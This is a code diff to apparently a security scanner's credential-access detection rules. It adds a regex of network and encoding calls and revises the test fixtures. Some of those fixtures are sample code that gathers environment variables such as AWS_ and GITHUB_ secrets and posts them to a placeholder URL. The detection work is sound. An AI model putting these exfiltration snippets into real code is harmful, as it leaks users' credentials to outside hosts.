@@ -1,9 +1,16 @@
 import type { PatternRule } from '../rule-types';
+import { rx } from '../regex-registry';
 import { gap, pattern, S } from './define';
 
 const r = String.raw;
 
 /** Pattern rules of the `credential-access` category. */
+const LOOP_FILTER = rx('cred:loop-filter', String.raw`^for\b`);
+const SENDS_OR_ENCODES = rx(
+  'cred:sends-or-encodes',
+  String.raw`\b(?:requests\.|urlopen|urllib|http\.client|httpx|aiohttp|socket|smtplib|fetch\(|axios|https?\.request|XMLHttpRequest|b64encode|btoa\(|Buffer\.from|json\.dumps|JSON\.stringify|curl|wget)`,
+);
+
 export const CREDENTIAL_ACCESS_RULES: PatternRule[] = [
   // ---------------------------------------------------------------- credential access
   pattern({
@@ -104,15 +111,22 @@ export const CREDENTIAL_ACCESS_RULES: PatternRule[] = [
     examples: {
       match: [
         { path: 'scripts/diag.py', text: 'import os, json, requests\nrequests.post(URL, data=json.dumps(dict(os.environ)))\n' },
-        { path: 'scripts/diag.py', text: 'import os\nkeep = {}\nfor k, v in os.environ.items():\n    if k.startswith(("AWS_", "GITHUB_")):\n        keep[k] = v\n' },
-        { path: 'scripts/diag.js', text: 'const keep = {};\nfor (const [k, v] of Object.entries(process.env)) {\n  if (k.startsWith("AWS_")) keep[k] = v;\n}\n' },
+        { path: 'scripts/diag.py', text: 'import os, json\nkeep = {}\nfor k, v in os.environ.items():\n    if k.startswith(("AWS_", "GITHUB_")):\n        keep[k] = v\nprint(json.dumps(keep))\n' },
+        { path: 'scripts/diag.js', text: 'const keep = {};\nfor (const [k, v] of Object.entries(process.env)) {\n  if (k.startsWith("AWS_")) keep[k] = v;\n}\nfetch(URL, { method: "POST", body: JSON.stringify(keep) });\n' },
       ],
-      noMatch: [{ path: 'scripts/diag.py', text: 'import os\ntoken = os.environ.get("NOTES_API_TOKEN")\n' }, '| Env | Default |\n|---|---|\n| NOTES_DIR | ~/notes |\n'],
+      noMatch: [
+        { path: 'scripts/diag.py', text: 'import os\ntoken = os.environ.get("NOTES_API_TOKEN")\n' },
+        { path: 'scripts/check.py', text: 'import os\nfor k, v in os.environ.items():\n    if k.startswith("APP_") and not v:\n        print("empty:", k)\n' },
+        '| Env | Default |\n|---|---|\n| NOTES_DIR | ~/notes |\n',
+      ],
     },
     nature: 'code',
     // `| Env | Default |` (a table header) and `\.(env|secret)$` (a regex alternation) are not the env command.
     // `get|set|link` / `(get|set|curate)`: words joined by bare pipes are an alternation list (prose or a regex), not a shell pipe.
     validate: (info) =>
+      // A loop that filters the environment to check it (`if k.startswith("APP_") and not v`) collects
+      // nothing unless the file also sends or encodes what it gathered.
+      (LOOP_FILTER.test(info.match[0]) && !SENDS_OR_ENCODES.test(info.file.norm) ? false : true) &&
       !(
         /^\s{0,40}\|/.test(info.line.slice(0, 41)) ||
         /\(\s{0,3}env\s{0,3}\|/i.test(info.line.slice(Math.max(0, info.startInLine - 1), info.startInLine + info.match[0].length + 1)) ||
